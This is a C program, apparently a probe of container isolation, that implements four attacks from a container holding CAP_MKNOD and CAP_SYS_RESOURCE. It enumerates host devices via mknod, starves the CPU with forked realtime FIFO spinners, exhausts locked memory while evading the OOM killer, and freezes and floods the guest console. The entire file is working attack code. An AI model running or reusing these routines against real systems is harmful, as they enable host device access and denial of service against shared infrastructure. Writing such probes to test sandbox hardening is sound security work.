/*
 * Attacks from a container with CAP_MKNOD and CAP_SYS_RESOURCE:
 * capable devices | realtime SECONDS | memory MIB | console
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

/* Tries to open every device with these major numbers, under a new name, and prints those it could. */
static int devices(void) {
  static const unsigned majors[] = {1, 4, 5, 7, 8, 10, 11, 252, 253, 254, 259};
  for (unsigned i = 0; i < sizeof majors / sizeof *majors; i++)
    for (unsigned minor = 0; minor < 256; minor++)
      for (int block = 0; block < 2; block++) {
        char name[64];
        snprintf(name, sizeof name, "/dev/%u-%u-%d", majors[i], minor, block);
        if (mknod(name, (block ? S_IFBLK : S_IFCHR) | 0600, makedev(majors[i], minor)) < 0) continue;
        int fd = open(name, O_RDONLY | O_NONBLOCK | O_NOCTTY);
        if (fd >= 0) printf("%c %u:%u\n", block ? 'b' : 'c', majors[i], minor);
        if (fd >= 0) close(fd);
        unlink(name);
      }
  puts("over");
  return 0;
}

/* Spins with a higher priority than everything that is not realtime. */
static int realtime(int seconds) {
  const struct rlimit limit = {99, 99};
  const struct sched_param priority = {.sched_priority = 99};
  setrlimit(RLIMIT_RTPRIO, &limit);
  for (int i = 0; i < 3; i++) fork();
  if (sched_setscheduler(0, SCHED_FIFO, &priority) < 0) {
    printf("setscheduler: %s\n", strerror(errno));
    return 1;
  }
  const time_t end = time(NULL) + seconds;
  while (time(NULL) < end) continue;
  puts("spun");
  return 0;
}

/* Allocates memory and tries to escape the OOM killer. */
static int memory(long mib) {
  const struct rlimit limit = {RLIM_INFINITY, RLIM_INFINITY};
  FILE *score = fopen("/proc/self/oom_score_adj", "w");
  int written = score != NULL && fputs("-1000", score) >= 0;
  if (score != NULL && fclose(score) != 0) written = 0;
  printf("score %s, locked %s\n", written ? "set" : "kept",
         setrlimit(RLIMIT_MEMLOCK, &limit) == 0 ? "without limit" : "with its limit");
  fflush(stdout);
  for (long i = 0; i < mib; i++) {
    void *piece = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (piece == MAP_FAILED) break;
    if (mlock(piece, 1 << 20) < 0) memset(piece, 1, 1 << 20);
  }
  puts("taken");
  fflush(stdout);
  pause();
  return 0;
}

/* Stops the output of the guest's console and fills its buffer. */
static int console(void) {
  unlink("/dev/of-the-guest");
  if (mknod("/dev/of-the-guest", S_IFCHR | 0600, makedev(5, 1)) < 0) return 1;
  int fd = open("/dev/of-the-guest", O_RDWR | O_NONBLOCK | O_NOCTTY);
  if (fd < 0) {
    printf("open: %s\n", strerror(errno));
    return 1;
  }
  if (tcflow(fd, TCOOFF) < 0) return 1;
  while (write(fd, " ", 1) == 1) continue;
  puts("stopped");
  fflush(stdout);
  pause();
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 2 && strcmp(argv[1], "devices") == 0) return devices();
  if (argc == 3 && strcmp(argv[1], "realtime") == 0) return realtime(atoi(argv[2]));
  if (argc == 3 && strcmp(argv[1], "memory") == 0) return memory(atol(argv[2]));
  if (argc == 2 && strcmp(argv[1], "console") == 0) return console();
  return 2;
}
